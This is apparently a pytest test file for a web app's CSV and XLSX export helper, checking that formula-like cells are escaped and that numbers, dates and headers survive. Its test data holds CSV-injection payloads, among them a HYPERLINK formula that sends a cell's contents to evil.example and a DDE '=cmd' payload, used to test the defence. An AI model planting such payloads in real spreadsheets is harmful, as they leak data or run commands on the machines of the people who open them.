"""The shared spreadsheet-export helper (issue #11, item 9): cells that a spreadsheet would run as
formulas are escaped, everything else is written as it is — in CSV and, for the dashboards' page tables,
in XLSX with the same rows (numbers stay numbers, text is never a formula)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from qa_app.web.exports import (
    FORMULA_START,
    Column,
    Table,
    csv_bytes,
    escape_cell,
    escape_row,
    filename,
    send,
    xlsx_bytes,
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+86 138 0000 0000",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_starts_are_escaped(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["您好，很高兴为您服务", "agent 1021", " =1+1", "'=already", "", "a=b", "1-2"]
)
def test_ordinary_text_is_unchanged(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, -0.25, 0, None, True, date(2026, 11, 29)])
def test_numbers_dates_and_none_stay_as_they_are(value):
    assert escape_cell(value) is value


def test_every_formula_start_is_covered():
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    assert escape_row(["=a", 1, "b", None, "@c"]) == ["'=a", 1, "b", None, "'@c"]


def test_csv_bytes_escapes_header_and_cells_and_reads_back():
    data = csv_bytes(
        ["坐席", "=header", "得分", "时间"],
        [
            ['=HYPERLINK("x")', "普通文本, 含逗号", -12.5, datetime(2026, 11, 29, 9, 30, tzinfo=UTC)],
            ["@agent", '引号"内容"', None, date(2026, 11, 30)],
        ],
    )
    assert data.startswith("\ufeff".encode()) and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["坐席", "'=header", "得分", "时间"]
    assert rows[1] == ['\'=HYPERLINK("x")', "普通文本, 含逗号", "-12.5", "2026-11-29 09:30:00+00:00"]
    assert rows[2] == ["'@agent", '引号"内容"', "", "2026-11-30"]


def test_csv_without_bom():
    assert csv_bytes(["a"], [["+1"]], bom=False) == b"a\r\n'+1\r\n"


# --- page tables (dashboards) ----------------------------------------------------------------------------


def _table() -> Table:
    return Table(
        key="t",
        title="Agents: gaps [test] / 坐席",
        columns=(
            Column("agent", "坐席 Agent"),
            Column("n", "n", "int"),
            Column("gap", "Gap (pp)", "pp"),
            Column("week", "Week", "date"),
            Column("note", "=label"),
        ),
        rows=[
            ("1001 张伟", 40, -3.2, date(2026, 3, 2), "ok"),
            ('=HYPERLINK("http://evil")', 12, 15.0, date(2026, 3, 9), "-2+3"),
            ("@agent", 0, None, None, "+1"),
        ],
    )


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so that Excel reads Chinese correctly"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_a_page_table_as_csv_escapes_text_and_keeps_numbers():
    rows = _csv_rows(_table().csv())
    assert rows[0] == ["坐席 Agent", "n", "Gap (pp)", "Week", "'=label"]
    assert rows[1] == ["1001 张伟", "40", "-3.2", "2026-03-02", "ok"]
    assert rows[2][0] == '\'=HYPERLINK("http://evil")' and rows[2][4] == "'-2+3"
    assert rows[3] == ["'@agent", "0", "", "", "'+1"]


def _xlsx_text(value) -> str:
    """A cell read back by openpyxl, written the way the CSV writes it."""
    if value is None:
        return ""
    if hasattr(value, "date") and callable(value.date):  # dates come back as datetimes
        return value.date().isoformat()
    return str(value)


def _same(text: str):
    """Numbers compare as numbers (XLSX keeps 15.0 as 15), everything else as text."""
    try:
        return float(text)
    except ValueError:
        return text


def test_xlsx_opens_and_has_the_same_rows_as_the_csv():
    table = _table()
    wb = load_workbook(io.BytesIO(xlsx_bytes(table)))
    ws = wb.active
    assert ws.title == "Agents  gaps  test    坐席"[:31]
    assert ws.freeze_panes == "A2"
    got = [[_same(_xlsx_text(c)) for c in row] for row in ws.iter_rows(values_only=True)]
    assert got == [[_same(c) for c in row] for row in _csv_rows(table.csv())]
    # numbers are numbers, escaped text is text and never a formula
    assert ws["B2"].value == 40 and ws["C2"].value == -3.2
    assert ws["A3"].data_type == "s" and ws["A3"].value.startswith("'=")
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_a_row_of_the_wrong_width_is_a_bug():
    with pytest.raises(ValueError, match="cells"):
        Table("t", "t", (Column("a", "A"),), [("x", "y")])


def test_send_sets_download_headers(app):
    with app.test_request_context():
        resp = send(_table(), "csv", filename("kpis", "team", date(2026, 3, 2), "../x y"))
        assert resp.headers["Content-Disposition"] == 'attachment; filename="kpis-team-2026-03-02-.._x_y.csv"'
        assert resp.mimetype == "text/csv"
        assert "no-store" in resp.headers["Cache-Control"]
        resp = send(_table(), "xlsx", "x")
        assert resp.mimetype.endswith("spreadsheetml.sheet") and resp.get_data()[:2] == b"PK"
        with pytest.raises(ValueError):
            send(_table(), "pdf", "x")
